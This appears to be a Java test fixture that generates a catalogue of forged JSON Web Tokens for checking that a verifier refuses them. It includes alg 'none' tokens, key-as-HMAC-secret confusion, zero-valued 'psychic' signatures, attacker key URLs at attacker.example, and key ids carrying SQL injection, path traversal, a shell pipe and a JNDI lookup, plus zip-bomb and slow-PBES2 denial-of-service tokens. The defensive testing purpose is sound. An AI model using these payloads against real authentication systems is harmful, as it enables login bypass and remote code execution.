package io.scoria.auth.token;

import static io.scoria.auth.token.Signer.base64;
import static io.scoria.auth.token.Signer.bytes;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.interfaces.RSAPublicKey;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * Rows J1 to J3 of the security catalogue (RFC 8725, and what was found in libraries since): tokens
 * that must not let anybody in, by what is tried with each. As many as can be are signed with the
 * right key, so that nothing but the rule that is meant refuses them.
 */
public final class TokenAttacks {
  private static final Signer EC = Signer.of("ec", "ES256");
  private static final Signer RSA = Signer.of("rsa", "RS256");
  private static final Signer ED = Signer.of("ed", "EdDSA");
  private static final Signer TENANT = Signer.of("tenant", "ES256");
  private static final Signer ATTACKER = Signer.of("ec", "ES256");
  private static final String CLAIMS =
      """
      {"iss":"https://login","aud":"scoria","sub":"mallory","exp":253402300799}\
      """;
  private static final String EC_HEADER = header("\"alg\":\"ES256\",\"kid\":\"ec\"");
  private static final BigInteger P256_ORDER =
      new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);
  private static final BigInteger ED25519_ORDER =
      BigInteger.ONE.shiftLeft(252).add(new BigInteger("27742317777372353535851937790883648493"));

  private final Map<String, String> tokens = new LinkedHashMap<>();

  private TokenAttacks() {}

  /** Who is attacked. */
  public static FakeIssuer issuer() {
    return new FakeIssuer("https://login").with(EC).with(RSA).with(ED);
  }

  /** Another whom the same server trusts. */
  public static FakeIssuer otherTenant() {
    return new FakeIssuer("https://tenant").with(TENANT);
  }

  /** What the attacks are variants of, and what is let in. */
  public static Map<String, String> goodTokens() {
    return Map.of(
        "ES256", EC.token(CLAIMS),
        "RS256", RSA.token(CLAIMS),
        "EdDSA", ED.token(CLAIMS),
        "a bare header", EC.sign(EC_HEADER, CLAIMS));
  }

  /** The tokens by the names of the attacks. */
  public static Map<String, String> all() {
    TokenAttacks attacks = new TokenAttacks();
    attacks.noSignature();
    attacks.algorithmConfusion();
    attacks.headersThatChangeTheReading();
    attacks.keysOfTheAttacker();
    attacks.keyIds();
    attacks.otherForms();
    attacks.otherEncodings();
    attacks.otherJson();
    attacks.signatures();
    return attacks.tokens;
  }

  private void add(String attack, String token) {
    if (tokens.put(attack, token) != null) {
      throw new AssertionError("twice: " + attack);
    }
  }

  private static String header(String members) {
    return "{" + members + "}";
  }

  private static String parts(String header, String claims) {
    return base64(header) + "." + base64(claims);
  }

  private void noSignature() {
    String signature = "." + base64(EC.signature(bytes(parts(EC_HEADER, CLAIMS))));
    for (String none : new String[] {"none", "None", "NONE", "nOnE", ""}) {
      String parts = parts(header("\"alg\":\"" + none + "\",\"kid\":\"ec\""), CLAIMS);
      add("alg '%s' without a signature".formatted(none), parts + ".");
      add("alg '%s' without a signature and its separator".formatted(none), parts);
      add("alg '%s' with a signature of one byte".formatted(none), parts + ".AA");
      add("alg '%s' with the signature of a good token".formatted(none), parts + signature);
    }
    add("no alg", EC.sign(header("\"kid\":\"ec\""), CLAIMS));
    add("alg null", EC.sign(header("\"alg\":null,\"kid\":\"ec\""), CLAIMS));
    add("alg a list", EC.sign(header("\"alg\":[\"ES256\"],\"kid\":\"ec\""), CLAIMS));
    add("a right alg and no signature", parts(EC_HEADER, CLAIMS) + ".");
    add("a right alg and no third part", parts(EC_HEADER, CLAIMS));
  }

  private void algorithmConfusion() {
    for (Signer signer : new Signer[] {RSA, EC, ED}) {
      VerificationKey key = signer.verificationKey();
      byte[] der = key.key().getEncoded();
      String kind = key.algorithm();
      String base = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
      String pem = "-----BEGIN PUBLIC KEY-----\n" + base + "\n-----END PUBLIC KEY-----";
      add(kind + " key's PEM as HMAC secret", hmac("256", key.id(), bytes(pem)));
      add(
          kind + " key's PEM and line feed as HMAC secret",
          hmac("256", key.id(), bytes(pem + "\n")));
      add(kind + " key's DER as HMAC secret", hmac("256", key.id(), der));
      add(kind + " key's DER as HMAC secret of HS512", hmac("512", key.id(), der));
    }
    byte[] modulus = ((RSAPublicKey) RSA.verificationKey().key()).getModulus().toByteArray();
    add("RSA key's modulus as HMAC secret", hmac("384", "rsa", modulus));
    add("an empty HMAC secret's neighbour", hmac("256", "ec", new byte[1]));
    for (String other : new String[] {"RS384", "RS512", "PS256", "PS384", "PS512"}) {
      add("the RS256 key's own signature by " + other, RSA.by(other).token(CLAIMS));
    }
    for (String named : new String[] {"PS256", "ES384", "RS256", "EdDSA", "es256", "ES256K"}) {
      String header = header("\"alg\":\"" + named + "\",\"kid\":\"ec\"");
      add("an ES256 signature called " + named, EC.sign(header, CLAIMS));
    }
    add(
        "an ES256 signature called 'ES256 '",
        EC.sign("{\"alg\":\"ES256 \",\"kid\":\"ec\"}", CLAIMS));
    add("an RS256 signature called PS256", RSA.sign("{\"alg\":\"PS256\",\"kid\":\"rsa\"}", CLAIMS));
    add(
        "a PS256 signature called RS256",
        RSA.by("PS256").sign("{\"alg\":\"RS256\",\"kid\":\"rsa\"}", CLAIMS));
  }

  private static String hmac(String bits, String id, byte[] secret) {
    String parts = parts(header("\"alg\":\"HS" + bits + "\",\"kid\":\"" + id + "\""), CLAIMS);
    try {
      Mac mac = Mac.getInstance("HmacSHA" + bits);
      mac.init(new SecretKeySpec(secret, "HmacSHA" + bits));
      return parts + "." + base64(mac.doFinal(bytes(parts)));
    } catch (GeneralSecurityException e) {
      throw new AssertionError(e);
    }
  }

  /** All with a good signature over what was sent. */
  private void headersThatChangeTheReading() {
    String ec = "\"alg\":\"ES256\",\"kid\":\"ec\",";
    for (String member :
        new String[] {
          "\"crit\":[\"exp\"]",
          "\"crit\":[\"urn:example:unknown\"],\"urn:example:unknown\":true",
          "\"crit\":[]",
          "\"b64\":false",
          "\"b64\":true",
          "\"b64\":false,\"crit\":[\"b64\"]",
          "\"zip\":\"DEF\"",
          "\"zip\":null",
          "\"enc\":\"A256GCM\"",
          "\"cty\":\"JWT\"",
          "\"typ\":\"JWE\"",
          "\"typ\":\"dpop+jwt\"",
          "\"typ\":\"logout+jwt\"",
          "\"typ\":\"\"",
          "\"typ\":null",
          "\"typ\":[\"JWT\"]"
        }) {
      add("a header with " + member, EC.sign(header(ec + member), CLAIMS));
    }
    add("zip bomb", EC.sign(bytes(header(ec + "\"zip\":\"DEF\"")), deflated(6 << 20)));
    String unencoded = base64(header(ec + "\"b64\":false,\"crit\":[\"b64\"]")) + "." + CLAIMS;
    add("claims that are not encoded", EC.signParts(unencoded));
    String inner = EC.token(CLAIMS);
    add("a token in a token", EC.sign(header(ec + "\"cty\":\"JWT\""), inner));
    add("a token in a token that does not say so", EC.sign(EC_HEADER, inner));
  }

  private static byte[] deflated(int bytes) {
    ByteArrayOutputStream target = new ByteArrayOutputStream();
    Deflater raw = new Deflater(9, true);
    try (DeflaterOutputStream out = new DeflaterOutputStream(target, raw)) {
      out.write(bytes(CLAIMS.replace("}", ",\"a\":\"" + "a".repeat(bytes) + "\"}")));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    } finally {
      raw.end();
    }
    return target.toByteArray();
  }

  private void keysOfTheAttacker() {
    String key = base64(ATTACKER.verificationKey().key().getEncoded());
    String jwk = "{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"" + key + "\",\"y\":\"AA\"}";
    for (String member :
        new String[] {
          "\"jwk\":" + jwk,
          "\"jku\":\"https://attacker.example/jwks.json\"",
          "\"jku\":\"file:///etc/passwd\"",
          "\"x5u\":\"https://attacker.example/key.pem\"",
          "\"x5c\":[\"" + key + "\"]"
        }) {
      String header = header("\"alg\":\"ES256\",\"kid\":\"ec\"," + member);
      String name = member.substring(0, Math.min(member.length(), 24));
      add("the attacker's key in a header with " + name, ATTACKER.sign(header, CLAIMS));
      add("the right key, and a header with " + name, EC.sign(header, CLAIMS));
    }
    add("the attacker's key under the right id", ATTACKER.token(CLAIMS));
    add("the key of another tenant", TENANT.token(CLAIMS));
    String others = CLAIMS.replace("https://login", "https://tenant");
    add("the right key for another tenant's name", EC.token(others));
  }

  private void keyIds() {
    for (String id :
        new String[] {
          "../../../../../../dev/null",
          "/dev/null",
          "file:///dev/null",
          "https://attacker.example/key",
          "x' UNION SELECT 'key' --",
          "| /usr/bin/id",
          "${jndi:ldap://attacker.example/a}",
          "ec\\u0000",
          "ec\\r\\nX: y",
          "EC",
          "ec ",
          "rsa",
          "tenant",
          "",
          "e".repeat(257),
          "e".repeat(8000)
        }) {
      String name = id.length() > 40 ? id.length() + " characters" : id;
      String header = header("\"alg\":\"ES256\",\"kid\":\"" + id + "\"");
      add("the key id '%s'".formatted(name), EC.sign(header, CLAIMS));
    }
    for (String id : new String[] {"null", "1", "[\"ec\"]", "{\"ec\":1}"}) {
      add("the key id " + id, EC.sign(header("\"alg\":\"ES256\",\"kid\":" + id), CLAIMS));
    }
    add("no key id", EC.sign(header("\"alg\":\"ES256\""), CLAIMS));
  }

  private void otherForms() {
    String good = EC.token(CLAIMS);
    String[] parts = good.split("\\.", -1);
    String json =
        "{\"payload\":\"%s\",\"protected\":\"%s\",\"signature\":\"%s\"}"
            .formatted(parts[1], parts[0], parts[2]);
    String one = "{\"protected\":\"%s\",\"signature\":\"%s\"}".formatted(parts[0], parts[2]);
    add("flattened JSON serialisation", json);
    add("general JSON serialisation", generalJson(parts[1], one));
    add("two signatures, one of them good", generalJson(parts[1], one + "," + one));
    String jwe = "{\"alg\":\"%s\",\"enc\":\"A256GCM\",\"kid\":\"rsa\"%s}";
    add("encrypted: RSA-OAEP", base64(jwe.formatted("RSA-OAEP", "")) + ".AAAA.AAAA.AAAA.AAAA");
    add("encrypted: dir", base64(jwe.formatted("dir", "")) + "..AAAA.AAAA.AAAA");
    String slow = jwe.formatted("PBES2-HS512+A256KW", ",\"p2s\":\"AAAA\",\"p2c\":2147483647");
    add("encrypted: PBES2 of 2^31 rounds", base64(slow) + ".AAAA.AAAA.AAAA.AAAA");
    add("encrypted: PBES2 of 2^31 rounds, in three parts", EC.sign(slow, CLAIMS));
    add("four parts", good + "." + parts[2]);
    add("five parts", good + "." + parts[2] + "." + parts[2]);
    add("a separator at the end", good + ".");
    add("a separator at the beginning", "." + good);
    add("an empty header", "." + parts[1] + "." + parts[2]);
    add("empty claims", parts[0] + ".." + parts[2]);
    add("separators alone", "..");
    add("parts in another order", parts[1] + "." + parts[0] + "." + parts[2]);
    add("two tokens with a comma", good + "," + good);
    add("two tokens with a space", good + " " + good);
    add("1 MB", good + "A".repeat(1 << 20));
    add("1 MB of claims", EC.token(CLAIMS.replace("}", ",\"a\":\"" + "a".repeat(1 << 20) + "\"}")));
    add(
        "a little more than 16 KiB",
        EC.token(CLAIMS.replace("}", ",\"a\":\"" + "a".repeat(12_300) + "\"}")));
  }

  private static String generalJson(String payload, String signatures) {
    return "{\"payload\":\"%s\",\"signatures\":[%s]}".formatted(payload, signatures);
  }

  private void otherEncodings() {
    String good = EC.token(CLAIMS);
    String[] parts = good.split("\\.", -1);
    for (int i = 0; i < parts.length; i++) {
      String[] padded = parts.clone();
      padded[i] += "=".repeat(i == 0 ? 1 : 2);
      add("padding behind part " + (i + 1), String.join(".", padded));
      String[] spaced = parts.clone();
      spaced[i] = spaced[i].substring(0, 4) + " " + spaced[i].substring(4);
      add("a space in part " + (i + 1), String.join(".", spaced));
      String[] short1 = parts.clone();
      short1[i] = short1[i].substring(0, short1[i].length() / 4 * 4) + "A";
      add("a lone last character in part " + (i + 1), String.join(".", short1));
    }
    String header = base64(withUnusedBits(EC_HEADER));
    add("bits for nothing in the header, signed", EC.signParts(raiseLast(header) + "." + parts[1]));
    String claims = base64(withUnusedBits(CLAIMS));
    add("bits for nothing in the claims, signed", EC.signParts(parts[0] + "." + raiseLast(claims)));
    add("bits for nothing in the signature", parts[0] + "." + parts[1] + "." + raiseLast(parts[2]));
    String plain =
        Base64.getEncoder().withoutPadding().encodeToString(bytes(CLAIMS + "\u00ff>>??>>??"));
    add("the alphabet with + and /", EC.signParts(parts[0] + "." + plain + "+/"));
    add("a NUL behind", good + "\0");
    add("a line feed behind", good + "\n");
    add("a percent-encoded NUL behind", good + "%00");
    add("data behind the signature", good + base64("trailing data"));
    add("letters beyond ASCII", good + "\u00c5");
  }

  /** The same object, of such a length that its encoding ends within a byte. */
  private static String withUnusedBits(String json) {
    return json + " ".repeat(1 + (3 - json.length() % 3) % 3);
  }

  /** The same bytes for a lenient decoder, written with unused bits that are not zero. */
  private static String raiseLast(String text) {
    int last = text.length() - 1;
    if (text.length() % 4 == 0 || text.length() % 4 == 1) {
      throw new AssertionError("no unused bits: " + text);
    }
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    return text.substring(0, last) + alphabet.charAt(alphabet.indexOf(text.charAt(last)) + 1);
  }

  /** All with a good signature over what was sent. */
  private void otherJson() {
    add("alg twice", EC.sign("{\"alg\":\"none\",\"alg\":\"ES256\",\"kid\":\"ec\"}", CLAIMS));
    add(
        "alg twice, once escaped",
        EC.sign("{\"\\u0061lg\":\"none\",\"alg\":\"ES256\",\"kid\":\"ec\"}", CLAIMS));
    add("kid twice", EC.sign("{\"kid\":\"x\",\"alg\":\"ES256\",\"kid\":\"ec\"}", CLAIMS));
    add("iss twice", EC.token(CLAIMS.replace("{", "{\"iss\":\"https://tenant\",")));
    add("aud twice", EC.token(CLAIMS.replace("{", "{\"aud\":\"other\",")));
    add("a name twice deep inside", EC.token(CLAIMS.replace("}", ",\"a\":[{\"b\":1,\"b\":2}]}")));
    add("a header that is a list", EC.sign("[" + EC_HEADER + "]", CLAIMS));
    add("a header that is a text", EC.sign("\"ES256\"", CLAIMS));
    add("something behind the header's object", EC.sign(EC_HEADER + "{}", CLAIMS));
    add("a comment in the header", EC.sign(EC_HEADER.replace("}", "/**/}"), CLAIMS));
    add("single quotes in the header", EC.sign(EC_HEADER.replace('"', '\''), CLAIMS));
    add("a byte order mark before the header", EC.sign("\ufeff" + EC_HEADER, CLAIMS));
    add(
        "a header in UTF-16",
        EC.sign(EC_HEADER.getBytes(StandardCharsets.UTF_16BE), bytes(CLAIMS)));
    add("claims in UTF-16", EC.sign(bytes(EC_HEADER), CLAIMS.getBytes(StandardCharsets.UTF_16LE)));
    add(
        "claims in UTF-32",
        EC.sign(bytes(EC_HEADER), CLAIMS.getBytes(Charset.forName("UTF-32BE"))));
    byte[] invalid = bytes(CLAIMS.replace("mallory", "mallor?"));
    invalid[CLAIMS.indexOf("mallory") + 6] = (byte) 0xff;
    add("claims that are not UTF-8", EC.sign(bytes(EC_HEADER), invalid));
    add("claims that are a list", EC.token("[" + CLAIMS + "]"));
    add("claims that are a text", EC.token("\"mallory\""));
    add("claims that are no JSON", EC.token("mallory"));
    add("something behind the claims", EC.token(CLAIMS + "{}"));
    add(
        "claims 5000 deep",
        EC.token(CLAIMS.replace("}", ",\"a\":" + "[".repeat(5000) + "]".repeat(5000) + "}")));
    add(
        "an issuer that is a list",
        EC.token(CLAIMS.replace("\"https://login\"", "[\"https://login\"]")));
    add("an audience of another type", EC.token(CLAIMS.replace("\"scoria\"", "{\"scoria\":1}")));
    add("an audience with null", EC.token(CLAIMS.replace("\"scoria\"", "[\"scoria\",null]")));
    add("a subject that is a number", EC.token(CLAIMS.replace("\"mallory\"", "1")));
  }

  private void signatures() {
    String parts = parts(EC_HEADER, CLAIMS);
    byte[] good = EC.signature(bytes(parts));
    byte[] r = Arrays.copyOf(good, 32);
    byte[] order = Signer.unsigned(P256_ORDER, 32);
    byte[] one = Signer.unsigned(BigInteger.ONE, 32);
    add("psychic signature: r = s = 0", parts + "." + base64(new byte[64]));
    add("psychic signature: s = 0", parts + "." + base64(join(r, new byte[32])));
    add("psychic signature: r = 0", parts + "." + base64(join(new byte[32], r)));
    add("r = s = the order", parts + "." + base64(join(order, order)));
    add("r = s = 1", parts + "." + base64(join(one, one)));
    add("an EC signature in DER", parts + "." + base64(der(good)));
    add("psychic signature in DER", parts + "." + base64(new byte[] {0x30, 6, 2, 1, 0, 2, 1, 0}));
    add("an EC signature with a byte more", parts + "." + base64(join(good, new byte[1])));
    add("an EC signature with a byte less", parts + "." + base64(Arrays.copyOf(good, 63)));
    add(
        "an EC signature of the right halves, turned",
        parts + "." + base64(join(Arrays.copyOfRange(good, 32, 64), r)));
    add("the signature of another token", parts + "." + EC.token(CLAIMS + " ").split("\\.", -1)[2]);
    String rsa = parts("{\"alg\":\"RS256\",\"kid\":\"rsa\"}", CLAIMS);
    byte[] goodRsa = RSA.signature(bytes(rsa));
    add("an RSA signature of zeros", rsa + "." + base64(new byte[256]));
    add("an RSA signature of 1", rsa + "." + base64(Signer.unsigned(BigInteger.ONE, 256)));
    add("an RSA signature with a zero before", rsa + "." + base64(join(new byte[1], goodRsa)));
    add("an RSA signature plus the modulus", rsa + "." + base64(plusModulus(goodRsa)));
    String ed = parts("{\"alg\":\"EdDSA\",\"kid\":\"ed\"}", CLAIMS);
    byte[] goodEd = ED.signature(bytes(ed));
    add("an Ed25519 signature of zeros", ed + "." + base64(new byte[64]));
    add("an Ed25519 signature whose S is not reduced", ed + "." + base64(plusOrder(goodEd)));
  }

  private static byte[] join(byte[] first, byte[] second) {
    byte[] both = Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, both, first.length, second.length);
    return both;
  }

  private static byte[] der(byte[] signature) {
    byte[] r = new BigInteger(1, Arrays.copyOf(signature, 32)).toByteArray();
    byte[] s = new BigInteger(1, Arrays.copyOfRange(signature, 32, 64)).toByteArray();
    byte[] both =
        join(join(new byte[] {2, (byte) r.length}, r), join(new byte[] {2, (byte) s.length}, s));
    return join(new byte[] {0x30, (byte) both.length}, both);
  }

  private static byte[] plusModulus(byte[] signature) {
    BigInteger modulus = ((RSAPublicKey) RSA.verificationKey().key()).getModulus();
    return Signer.unsigned(new BigInteger(1, signature).add(modulus), 257);
  }

  /** S is the second half, little-endian (RFC 8032, section 5.1.7). */
  private static byte[] plusOrder(byte[] signature) {
    byte[] s = Arrays.copyOfRange(signature, 32, 64);
    reverse(s);
    byte[] larger = Signer.unsigned(new BigInteger(1, s).add(ED25519_ORDER), 32);
    reverse(larger);
    return join(Arrays.copyOf(signature, 32), larger);
  }

  private static void reverse(byte[] bytes) {
    for (int i = 0; i < bytes.length / 2; i++) {
      byte one = bytes[i];
      bytes[i] = bytes[bytes.length - 1 - i];
      bytes[bytes.length - 1 - i] = one;
    }
  }
}
